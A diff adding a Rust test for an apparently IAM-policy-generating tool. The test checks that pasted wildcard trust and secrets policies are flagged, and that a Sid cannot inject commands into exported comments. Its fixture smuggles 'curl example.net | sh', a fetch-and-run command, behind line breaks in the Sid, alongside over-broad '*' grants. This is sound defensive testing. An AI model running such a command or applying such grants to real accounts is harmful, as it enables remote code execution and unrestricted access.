@@ -442,3 +442,58 @@ fn format_names_round_trip_and_unknown_ones_are_explained() {
         "{error}"
     );
 }
+
+/// The second security review: a pasted trust policy trusting `"AWS": "*"`, or a secrets
+/// policy allowing `*` on `*`, was merged or passed as "already allows everything the agent
+/// needs" and applied by the exports without a word. Each is now said on its document and
+/// in every export that has comments, on one line whatever the pasted Sid holds: a line
+/// break or a line separator in it would end the comment and make the rest a command.
+#[test]
+fn pasted_grants_of_everything_are_said_in_every_commented_export_on_one_line_each() {
+    let request = Request {
+        account: "123456789012".into(),
+        region: "eu-west-1".into(),
+        secrets: vec!["matillion/agent".into()],
+        existing_trust_policy: r#"{"Version":"2012-10-17","Statement":[{"Sid":"Anyone\ncurl example.net | sh\u2028x\u0085y","Effect":"Allow","Principal":{"AWS":"*"},"Action":"sts:AssumeRole"}]}"#.into(),
+        existing_secrets_policy: r#"{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":"*","Resource":"*"}]}"#.into(),
+        ..Request::default()
+    };
+    let response = build(&request);
+    for (code, document) in [
+        ("pasted-trust-too-broad", "task-role-trust-policy"),
+        ("pasted-policy-too-broad", "execution-role-secrets-policy"),
+    ] {
+        let problem = response
+            .problems
+            .iter()
+            .find(|p| serde_json::to_value(p.code).expect("code") == code)
+            .unwrap_or_else(|| panic!("{code} missing: {:?}", response.problems));
+        assert_eq!(problem.document.map(|d| d.as_str()), Some(document));
+    }
+    for (format, comment) in [
+        (Format::AwsCli, "#"),
+        (Format::CloudFormation, "#"),
+        (Format::Terraform, "#"),
+        (Format::Cdk, "//"),
+    ] {
+        let text = export(&response, format).text;
+        let notes: Vec<&str> = text
+            .split(['\n', '\r', '\u{2028}', '\u{2029}', '\u{85}'])
+            .filter(|line| line.contains("GRANTS MORE"))
+            .collect();
+        assert_eq!(notes.len(), 2, "{format:?}: {notes:?}");
+        assert!(
+            notes
+                .iter()
+                .all(|line| line.starts_with(&format!("{comment} GRANTS MORE: "))),
+            "{format:?}: {notes:?}"
+        );
+        assert!(notes[0].contains(r"Anyone\u{000a}curl example.net | sh\u{2028}x\u{0085}y"));
+        assert!(
+            !text
+                .lines()
+                .any(|line| line.trim_start().starts_with("curl")),
+            "{format:?} planted a command"
+        );
+    }
+}
